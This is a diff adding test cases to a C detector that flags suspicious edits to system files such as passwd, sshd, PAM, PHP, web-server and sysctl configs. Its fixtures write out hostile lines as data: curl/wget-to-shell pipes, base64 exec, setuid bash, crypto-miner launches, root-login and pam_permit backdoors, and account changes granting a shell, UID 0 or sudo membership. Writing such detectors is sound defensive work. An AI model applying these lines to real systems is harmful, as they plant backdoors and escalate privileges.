@@ -9,6 +9,7 @@
 #include <string.h>
 
 #include "core/cleanup.h"
+#include "diff/accountids.h"
 #include "diff/linediff.h"
 #include "diff/linerules.h"
 
@@ -84,6 +85,78 @@ static const struct row rows[] = {
 	{TEXTFILE_COMMANDS, "", "curl -s http://x/y | bash\n", "line-download-run ", NULL},
 	{TEXTFILE_COMMANDS, "", "wget -qO- x|sh -s\n", "line-download-run ", NULL},
 	{TEXTFILE_COMMANDS, "", "curl -o x.sh http://x | tee x.sh\nls | sh\n", "", ""},
+	{TEXTFILE_PASSWD, "www:x:33:33::/:/usr/sbin/nologin\n", "www:x:33:33::/:/bin/bash\n",
+	 "line-account-shell ", "account 'www' has got the shell '/bin/bash'"},
+	{TEXTFILE_PASSWD, "www:x:33:33::/:/bin/sh\n", "www:x:33:33::/:/bin/bash\n", "", ""},
+	{TEXTFILE_PASSWD, "www:x:33:33::/:/bin/bash\n", "www:x:33:33::/:/bin/false\n", "", ""},
+	{TEXTFILE_PASSWD, "", "www:x:33:33::/:/bin/bash\n", "", ""},
+	{TEXTFILE_GSHADOW, "sudo:*::\n", "sudo:*::www\n", "line-group-member ", NULL},
+	{TEXTFILE_COMMANDS, "", "echo aWQ= | base64 -d | bash\n", "line-unpack-run ",
+	 "what is unpacked is run"},
+	{TEXTFILE_IMPORTS, "", "import base64; exec(base64.b64decode('eA=='))\n",
+	 "line-unpack-run line-import ", NULL},
+	{TEXTFILE_COMMANDS, "", "base64 -d x > y\nbase64 x | sh.txt\n", "", ""},
+	{TEXTFILE_COMMANDS, "", "* * * * * root chmod -R u+s /bin/bash\n", "line-setuid ",
+	 "chmod 'u+s'"},
+	{TEXTFILE_COMMANDS, "", "chmod 04755 /tmp/x\n", "line-setuid ", NULL},
+	{TEXTFILE_COMMANDS, "", "chmod 0755 /x\nchmod u+x,g-s /s\nchmod 1777 /tmp\n", "", ""},
+	{TEXTFILE_COMMANDS, "", "/opt/x -o stratum+tcp://pool:1 -u 4x\n", "line-miner ", NULL},
+	{TEXTFILE_COMMANDS, "", "@reboot xmrig -B\n", "line-miner ", NULL},
+	{TEXTFILE_COMMANDS, "", "# xmrig\nxmrigger --donate\n", "", ""},
+	/* ---- log-ins ---- */
+	{TEXTFILE_SSHD, "", "PermitRootLogin yes\n", "line-ssh-open ", "root may log in"},
+	{TEXTFILE_SSHD, "", "\tauthorizedkeyscommand=/tmp/k %u\n", "line-ssh-open ",
+	 "a program says which keys may log in: '/tmp/k'"},
+	{TEXTFILE_SSHD, "", "AuthorizedKeysCommand none\nPermitRootLogin no\n", "", ""},
+	{TEXTFILE_SSHD, "", "#PermitRootLogin yes\nUsePAM yes\n", "", ""},
+	{TEXTFILE_PAM, "", "auth sufficient pam_permit.so\n", "line-pam-open ",
+	 "a log-in asks 'pam_permit.so'"},
+	{TEXTFILE_PAM, "", "session optional pam_exec.so seteuid /tmp/x\n", "line-pam-open ", NULL},
+	{TEXTFILE_PAM, "", "auth [success=done default=ignore] /tmp/x.so\n", "line-pam-open ",
+	 NULL},
+	{TEXTFILE_PAM, "", "auth required pam_permit.so\naccount sufficient pam_unix.so\n", "", ""},
+	{TEXTFILE_PAM, "", "auth required /usr/lib/x/security/pam_unix.so\n", "", ""},
+	/* ---- servers and the system ---- */
+	{TEXTFILE_SERVER, "", "auto_prepend_file = \"/tmp/x.jpg\"\n", "line-code-prepended ",
+	 "every page runs '/tmp/x.jpg'"},
+	{TEXTFILE_SERVER, "", "php_value auto_append_file /tmp/x\n", "line-code-prepended ", NULL},
+	{TEXTFILE_SERVER, "", "auto_prepend_file =\n;auto_prepend_file = x\n", "", ""},
+	{TEXTFILE_SERVER, "", "AddType application/x-httpd-php .jpg\n", "line-handler ", NULL},
+	{TEXTFILE_SERVER, "", "Options +ExecCGI\n", "line-handler ", NULL},
+	{TEXTFILE_SERVER, "", "php_flag engine on\n", "line-handler ", NULL},
+	{TEXTFILE_SERVER, "", "AddType image/webp .webp\nOptions -Indexes\nRewriteEngine On\n", "",
+	 ""},
+	{TEXTFILE_HTTPD, "", "load_module /srv/app/evil.so;\n", "line-server-module ",
+	 "the server loads '/srv/app/evil.so'"},
+	{TEXTFILE_HTTPD, "", "LoadModule x_module \"/tmp/x.so\"\n", "line-server-module ", NULL},
+	{TEXTFILE_HTTPD, "", "load_module modules/../../../tmp/x.so;\n", "line-server-module ",
+	 NULL},
+	{TEXTFILE_HTTPD, "", "content_by_lua_block { os.execute(x) }\n", "line-server-module ",
+	 NULL},
+	{TEXTFILE_HTTPD, "", "CustomLog \"|/tmp/x\" common\n", "line-server-module ", NULL},
+	{TEXTFILE_HTTPD, "",
+	 "LoadModule rewrite_module modules/mod_rewrite.so\nload_module modules/x.so;\n"
+	 "#load_module /tmp/x.so;\nif ($a ~ (x|y)) { return 1; }\n"
+	 "log_format x '$a | $b';\n",
+	 "", ""},
+	{TEXTFILE_HOOKS, "", "APT::Update::Pre-Invoke {\"x\";};\n", "line-package-hook ", NULL},
+	{TEXTFILE_HOOKS, "", "pre-invoke=/tmp/x\n", "line-package-hook ", NULL},
+	{TEXTFILE_HOOKS, "", "// Pre-Invoke\nAPT::Get::Assume-Yes \"1\";\n", "", ""},
+	{TEXTFILE_SYSCTL, "", "kernel.core_pattern=|/tmp/x %p\n", "line-kernel-helper ",
+	 "the kernel runs '|/tmp/x'"},
+	{TEXTFILE_SYSCTL, "", "kernel/modprobe = /tmp/x\n", "line-kernel-helper ", NULL},
+	{TEXTFILE_SYSCTL, "", "kernel.core_pattern=core.%p\n# kernel.modprobe=/x\n", "", ""},
+	{TEXTFILE_IMPORTS, "", "import os; os.system('id')\n", "line-import ",
+	 "Python runs 'import os; os.system('id')'"},
+	{TEXTFILE_IMPORTS, "", "/srv/app\nimportant\n", "", ""},
+	{TEXTFILE_SERVER, "", " php_admin_value[auto_append_file]=\"a.php\"\n",
+	 "line-code-prepended ", "every page runs 'a.php'"},
+	{TEXTFILE_SERVER, "", "zend_extension=/dev/shm/x.so\n", "line-php-code ",
+	 "PHP loads or runs '/dev/shm/x.so'"},
+	{TEXTFILE_SERVER, "", "sendmail_path = \"/tmp/m -t\"\n", "line-php-code ", NULL},
+	{TEXTFILE_SERVER, "", "memory_limit = 512M\nextension=redis\nauto_prepend_file =\n", "",
+	 ""},
+	{TEXTFILE_SERVER, "", ";auto_prepend_file = /tmp/x\nerror_log = /proc/self/fd/2\n", "", ""},
 	/* another file's rules */
 	{TEXTFILE_PLAIN, "", ROOT "toor::0:0::/:\n/usr/lib/x.so\n", "", ""},
 };
@@ -108,6 +181,54 @@ static void run(const struct row *r, struct sl_finding *f, struct buf *message)
 		assert_false(hits[i] && lines[i].sign == '-');
 	}
 	assert_int_equal(any, f->rule_count > 0);
+}
+
+#define APP "app:x:1000:1000::/home/app:/bin/sh\n"
+
+static const struct {
+	enum textfile what;
+	const char *before, *after;
+	bool only;
+} moves[] = {
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:99:1234::/home/app:/bin/sh\n", true},
+	{TEXTFILE_GROUP, "root:x:0:\napp:x:1000:\n", "root:x:0:\napp:x:1234:\n", true},
+	/* what somebody who knows of this would try */
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:0:1000::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:0::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:00:1000::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:+5:1000::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:4294967296:1::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app::1001:1000::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:1000::/home/app:/bin/bash\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:1000::/root:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "app:x:1001:1000::/home/app:/bin/sh:\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT "eve:x:1001:1000::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT, false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT APP "app:x:1001:1::/home/app:/bin/sh\n", false},
+	{TEXTFILE_PASSWD, ROOT, "root:x:5:5:root:/root:/bin/bash\n", false},
+	{TEXTFILE_PASSWD, ROOT APP "db:x:70:70::/:\n",
+	 ROOT "app:x:70:70::/home/app:/bin/sh\ndb:x:70:70::/:\n", false},
+	{TEXTFILE_GROUP, "sudo:x:27:\napp:x:1000:\n", "sudo:x:1234:\napp:x:1000:\n", false},
+	{TEXTFILE_GROUP, "sudo:x:27:\napp:x:1000:\n", "sudo:x:27:\napp:x:27:\n", false},
+	{TEXTFILE_GROUP, "app:x:1000:\n", "app:x:1234:eve\n", false},
+	{TEXTFILE_SHADOW, "app:!:1:\n", "app:!:2:\n", false},
+	{TEXTFILE_PASSWD, ROOT APP, ROOT APP, false},
+};
+
+static void an_account_that_moved_is_told_from_one_that_gained(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(moves); i++) {
+		AUTO_FREE struct sl_line *lines = NULL;
+		size_t count;
+
+		assert_int_equal(linediff(&lines, &count, bytes(moves[i].before),
+					  bytes(moves[i].after), NULL),
+				 0);
+		if (accountids_only(moves[i].what, lines, count, bytes(moves[i].after)) !=
+		    moves[i].only)
+			fail_msg("row %zu ('%s')", i, moves[i].after);
+	}
 }
 
 static void each_rule_names_what_it_should_and_nothing_else(void **state)
@@ -168,6 +289,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(each_rule_names_what_it_should_and_nothing_else),
+		cmocka_unit_test(an_account_that_moved_is_told_from_one_that_gained),
 		cmocka_unit_test(many_sentences_are_counted),
 		cmocka_unit_test(names_in_sentences_are_quoted),
 	};
